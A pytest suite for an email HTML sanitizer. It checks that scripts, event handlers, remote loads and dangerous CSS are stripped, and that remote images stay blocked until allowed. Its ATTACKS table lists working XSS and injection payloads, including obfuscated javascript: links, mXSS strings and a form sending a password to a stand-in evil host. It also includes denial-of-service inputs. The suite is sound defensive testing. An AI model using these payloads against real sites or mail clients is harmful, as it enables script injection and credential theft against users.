"""`mailboxes.sanitize`: customer HTML can neither run anything nor load anything until asked.
Corpus messages tagged html-script / tracking-pixel come from ../shared/corpus (skipped without
it, a failure under CI=true)."""

import re
import time
from html.parser import HTMLParser

import pytest

from mailboxes.parsing import parse
from mailboxes.sanitize import clean_html, html_to_text, render_html
from tests.corpus import CORPUS, require_corpus, tagged
from tests.corpus import params as _params


def _corpus_html(path: str | None) -> str:
    require_corpus(path)
    parsed = parse((CORPUS / path).read_bytes())
    assert parsed.html_body, f"{path} has no HTML body"
    return parsed.html_body


ALLOWED_SCHEMES = ("http:", "https:", "mailto:", "tel:")
SAFE_TAGS = set(
    re.findall(
        r"\w+",
        """a abbr acronym address article aside b bdi bdo big blockquote br caption center cite code
        col colgroup dd del details dfn div dl dt em figcaption figure font footer h1 h2 h3 h4 h5 h6
        header hgroup hr i img ins kbd li main mark nav ol p pre q rp rt ruby s samp section small
        span strike strong sub summary sup table tbody td tfoot th thead time tr tt u ul var wbr""",
    )
)


class _Elements(HTMLParser):
    """What a browser would see: every element with its (unescaped) attributes, and raw text."""

    def __init__(self):
        super().__init__(convert_charrefs=True)
        self.elements: list[tuple[str, dict[str, str]]] = []

    def handle_starttag(self, tag, attrs):
        self.elements.append((tag, {k: v or "" for k, v in attrs}))

    handle_startendtag = handle_starttag


def elements(html: str) -> list[tuple[str, dict[str, str]]]:
    parser = _Elements()
    parser.feed(html)
    parser.close()
    return parser.elements


def assert_inert(html: str, *, allow_src=lambda value: value.startswith("data:image/")) -> None:
    """Nothing runs, nothing loads: safe tags only, no handlers, no remote URL in any attribute
    that loads, no dangerous CSS."""
    for tag, attrs in elements(html):
        assert tag in SAFE_TAGS, tag
        for name, value in attrs.items():
            compact = re.sub(r"[\s\x00-\x1f]", "", value).lower()
            assert not name.startswith("on"), (tag, name)
            assert "javascript:" not in compact and "vbscript:" not in compact, (tag, name, value)
            assert name not in {"srcset", "background", "poster", "action", "formaction", "xlink:href"}, name
            if name == "src":
                assert allow_src(value), value
            if name == "href":
                assert compact.startswith(ALLOWED_SCHEMES), value
            if name == "style":
                assert not re.search(r"url\(|expression|@import|behavior|\\", compact), value
            if name.startswith("data-") and name != "data-remote-src":
                assert "://" not in value, (name, value)
        if tag == "a" and "href" in attrs:
            assert attrs.get("target") == "_blank"
            assert set(attrs.get("rel", "").split()) >= {"noopener", "noreferrer", "nofollow"}


# --- corpus -----------------------------------------------------------------------------------------


@pytest.mark.parametrize("path", _params(tagged("html-script", "tracking-pixel")))
def test_corpus_html_is_inert_until_remote_content_is_allowed(path):
    raw_html = _corpus_html(path)
    clean = clean_html(raw_html)
    assert_inert(clean)
    blocked = render_html(clean, cid_url=lambda cid: f"/attachments/{cid}", show_remote=False)
    assert_inert(blocked.html, allow_src=lambda v: v.startswith(("data:image/", "/attachments/")))
    if "tracking-pixel" in path or re.search(r"<img[^>]+src=[\"']?https?://", raw_html, re.I):
        assert blocked.blocked_remote_count > 0
    shown = render_html(clean, cid_url=lambda cid: None, show_remote=True)
    assert shown.blocked_remote_count == 0
    assert re.search(r'<img[^>]+src="https?://', shown.html) or not blocked.blocked_remote_count
    assert clean_html(clean) == clean  # stable: storing and re-sanitising changes nothing


def test_corpus_event_handler_and_ld_json_script_are_removed():
    for path in ("mail/zammad/mail019.box", "mail/webklex-php-imap/1366671050@github.com.eml"):
        clean = clean_html(_corpus_html(path if CORPUS.is_dir() else None))
        assert "onclick" not in clean and "getTop" not in clean
        assert "ld+json" not in clean and "@context" not in clean


# --- hand-written attacks ------------------------------------------------------------------------------

ATTACKS = {
    "script": "<p>hi</p><script>alert(1)</script>",
    "script in caps": "<SCRIPT SRC=http://evil.example/x.js></SCRIPT>",
    "event handlers": '<p onclick="alert(1)" onmouseover=alert(2)>x</p><img src=x onerror=alert(3)>',
    "body onload": '<body onload="alert(1)">x</body>',
    "javascript href": '<a href="javascript:alert(1)">x</a>',
    "javascript entity": '<a href="jav&#x61;script:alert(1)">x</a><a href="&#106;avascript:alert(1)">y</a>',
    "javascript whitespace": '<a href="java\tscript:alert(1)">x</a><a href=" JaVaScRiPt:alert(1)">y</a>',
    "vbscript": '<a href="vbscript:msgbox(1)">x</a>',
    "data html link": '<a href="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==">x</a>',
    "data svg image": '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
    "svg script": '<svg onload="alert(1)"><script>alert(2)</script><a xlink:href="javascript:alert(3)">x</a></svg>',
    "math mxss": "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>",
    "noscript mxss": '<noscript><p title="</noscript><img src=x onerror=alert(1)>"></noscript>',
    "form": '<form action="http://evil.example/steal"><input name="password"><button formaction="http://evil">go</button></form>',
    "meta refresh": '<meta http-equiv="refresh" content="0;url=http://evil.example/">',
    "base": '<base href="http://evil.example/"><a href="page">x</a>',
    "link stylesheet": '<link rel="stylesheet" href="http://evil.example/x.css">',
    "css url": '<div style="background-image: url(http://evil.example/pixel.gif); color: red">x</div>',
    "css escaped url": '<div style="background: u\\72l(http://evil.example/x)">x</div>',
    "css expression": '<div style="width: expression(alert(1))">x</div>',
    "css import": "<div style=\"@import 'http://evil.example/x.css'\">x</div>",
    "style element": "<style>@import url(http://evil.example/x.css); body { background: url(http://evil) }</style><p>x</p>",
    "iframe": '<iframe src="http://evil.example/"></iframe><iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "object embed": '<object data="http://evil.example/x.swf"></object><embed src="http://evil.example/x.swf">',
    "frameset": '<frameset><frame src="http://evil.example/"></frameset>',
    "srcset": '<img srcset="http://evil.example/a.png 1x, http://evil.example/b.png 2x">',
    "background attribute": '<table background="http://evil.example/bg.gif"><tr><td background="//evil.example/x">x</td></tr></table>',
    "conditional comment": "<!--[if IE]><script>alert(1)</script><![endif]--><p>x</p>",
    "template": "<template><img src=x onerror=alert(1)></template>",
    "protocol relative image": '<img src="//evil.example/pixel.gif" width="1" height="1">',
    "video poster": '<video poster="http://evil.example/p.png"><source src="http://evil.example/v.mp4"></video>',
    "input image": '<input type="image" src="http://evil.example/x.png">',
}


@pytest.mark.parametrize("html", ATTACKS.values(), ids=ATTACKS.keys())
def test_attacks_are_neutralised(html):
    clean = clean_html(html)
    assert_inert(clean)
    for _tag, attrs in elements(clean):
        assert all("evil.example" not in v for k, v in attrs.items() if k != "data-remote-src")
    rendered = render_html(clean, cid_url=lambda cid: None, show_remote=False).html
    assert_inert(rendered)


@pytest.mark.parametrize("html", ATTACKS.values(), ids=ATTACKS.keys())
def test_render_sanitises_again_whatever_it_is_given(html):
    rendered = render_html(html, cid_url=lambda cid: None, show_remote=True).html
    assert_inert(rendered, allow_src=lambda v: v.startswith(("data:image/", "http:", "https:")))


def test_remote_images_are_parked_and_restored_only_on_request():
    html = '<p>Hi</p><img src="https://tracker.example/open.gif?u=1" width="1" height="1" alt="">'
    clean = clean_html(html)
    assert 'data-remote-src="https://tracker.example/open.gif?u=1"' in clean
    assert " src=" not in clean
    blocked = render_html(clean, cid_url=lambda cid: None, show_remote=False)
    assert (blocked.blocked_remote_count, " src=" in blocked.html) == (1, False)
    shown = render_html(clean, cid_url=lambda cid: None, show_remote=True)
    assert shown.blocked_remote_count == 0
    assert 'src="https://tracker.example/open.gif?u=1"' in shown.html


def test_cid_images_map_to_authorised_urls():
    clean = clean_html('<img src="cid:logo%40example.com" alt="Logo"><img src="CID:<missing@x>">')
    assert 'data-cid="logo@example.com"' in clean and 'data-cid="missing@x"' in clean
    urls = {"logo@example.com": "/t/acme/attachments/7/"}
    rendered = render_html(clean, cid_url=urls.get, show_remote=False)
    assert '<img alt="Logo" src="/t/acme/attachments/7/">' in rendered.html
    assert rendered.html.count("src=") == 1
    assert rendered.blocked_remote_count == 0


def test_inline_data_images_and_formatting_survive():
    pixel = "data:image/png;base64,iVBORw0KGgo="
    html = (
        f'<div style="color: red; font-weight: bold; position: fixed"><img src="{pixel}">'
        '<a href="https://example.com/x" target="_self">link</a>'
        '<table border="1" cellpadding="2"><tr><td colspan="2">cell</td></tr></table></div>'
    )
    clean = clean_html(html)
    assert f'src="{pixel}"' in clean
    assert "color:red" in clean.replace(" ", "") and "position" not in clean
    assert 'target="_blank"' in clean and "noopener" in clean
    assert 'colspan="2"' in clean and 'cellpadding="2"' in clean
    assert_inert(clean)


def test_empty_input():
    assert clean_html("") == ""
    assert render_html("", cid_url=lambda cid: None, show_remote=True).html == ""
    assert html_to_text("") == ""


# --- html to text ------------------------------------------------------------------------------------


def test_html_to_text_keeps_the_words_and_the_shape():
    html = (
        "<html><head><title>T</title><style>p{color:red}</style></head><body>"
        "<p>Hello&nbsp;<b>world</b> &amp; friends</p><div>Line<br>break</div>"
        "<ul><li>one</li><li>two</li></ul><script>alert(1)</script>"
        "<table><tr><td>a</td><td>b</td></tr></table><pre>  keep\n  this</pre></body></html>"
    )
    assert html_to_text(html) == "Hello world & friends\n\nLine\nbreak\n- one\n- two\na b\n\n  keep\n  this"


def test_html_to_text_of_broken_markup():
    assert html_to_text("<p>a <!-- unclosed comment") == "a"
    assert html_to_text("x < y and y > z") == "x < y and y > z"
    assert html_to_text("<p>1</p><script>never closed") == "1"


@pytest.mark.parametrize(
    "html",
    [
        "<a" * 300_000,
        "<div>" * 200_000 + "deep" + "</div>" * 200_000,
        "<!--" * 200_000,
        '<p title="' * 100_000,
        "<script>" * 100_000,
        "&amp;" * 200_000,
    ],
    ids=["unclosed tags", "deep nesting", "unclosed comments", "unclosed quotes", "scripts", "entities"],
)
def test_html_to_text_and_clean_html_are_fast_on_pathological_input(html):
    started = time.perf_counter()
    html_to_text(html)
    clean_html(html)
    assert time.perf_counter() - started < 5


def test_corpus_dos_html_converts_quickly():
    for name in ("htmllargecallstack.eml", "outofmemory.eml"):
        path = f"mail/nodemailer-mailparser/{name}"
        html = _corpus_html(path if CORPUS.is_dir() else None)
        started = time.perf_counter()
        text = html_to_text(html)
        clean = clean_html(html)
        assert time.perf_counter() - started < 5, name
        assert isinstance(text, str) and isinstance(clean, str)
